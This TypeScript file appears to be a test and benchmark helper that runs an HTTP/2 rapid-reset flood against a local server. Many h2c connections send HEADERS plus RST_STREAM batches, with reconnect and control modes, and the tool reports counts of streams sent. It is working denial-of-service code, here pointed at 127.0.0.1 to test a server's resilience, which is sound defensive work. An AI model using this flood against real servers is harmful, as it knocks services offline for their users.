/**
 * A rapid-reset attacker, in a process of its own (bench/resets.ts, test/h2-end.test.ts): `node _reset-flood.js <port>
 * <mode> <clients> <streams> <seconds>`. Prints "ready", floods for `seconds`, then one JSON line. Modes:
 * - `steady`: `clients` h2c connections, each writing streams/10 GetInfo HEADERS + RST_STREAM pairs every 100 ms
 *   (`streams` a second each, under the per-connection limit when below 100); no reconnection.
 * - `reconnect`: the same, each connection opened again as soon as it is closed.
 * - `first-read`: `clients` connections, each writing the preface and `streams` pairs in one write (one read
 *   server-side), opened again as soon as they are closed.
 * - `requests`: as `steady`, without the resets (requests that stay open until answered).
 * - `requests-reconnect`: as `reconnect`, without the resets.
 * - `headers`: as `first-read` without the resets: `streams` GetInfo requests in each connection's first write.
 */
import { connect, type Socket } from "node:net";
import { getInfoStreams, H2_PREFACE } from "./_h2-frames.ts";

const [port = "0", mode = "steady", clients = "200", streams = "90", seconds = "5"] = process.argv.slice(2);

const resets = mode === "steady" || mode === "reconnect" || mode === "first-read";
const reconnects = mode !== "steady" && mode !== "requests";
let sent = 0;
let connections = 0;
let over = false;

function open(): void {
  if (over) return;
  connections++;
  let id = 1;
  let timer: NodeJS.Timeout | undefined;
  const socket: Socket = connect(Number(port), "127.0.0.1", () => {
    if (mode === "first-read" || mode === "headers") {
      socket.write(Buffer.concat([H2_PREFACE, getInfoStreams(Number(streams), { reset: resets })]));
      sent += Number(streams);
      return;
    }
    socket.write(H2_PREFACE);
    const perTick = Math.max(1, Math.round(Number(streams) / 10));
    timer = setInterval(() => {
      socket.write(getInfoStreams(perTick, { first: id, reset: resets }));
      id += 2 * perTick;
      sent += perTick;
    }, 100);
  });
  socket.on("error", () => {});
  socket.resume(); // read (and drop) what the server sends, or its close is never seen
  socket.on("close", () => {
    clearInterval(timer);
    if (reconnects) setImmediate(open);
  });
}

for (let i = 0; i < Number(clients); i++) open();
console.log("ready");
setTimeout(() => {
  over = true;
  console.log(JSON.stringify({ sent, connections }));
  process.exit(0);
}, Number(seconds) * 1000);
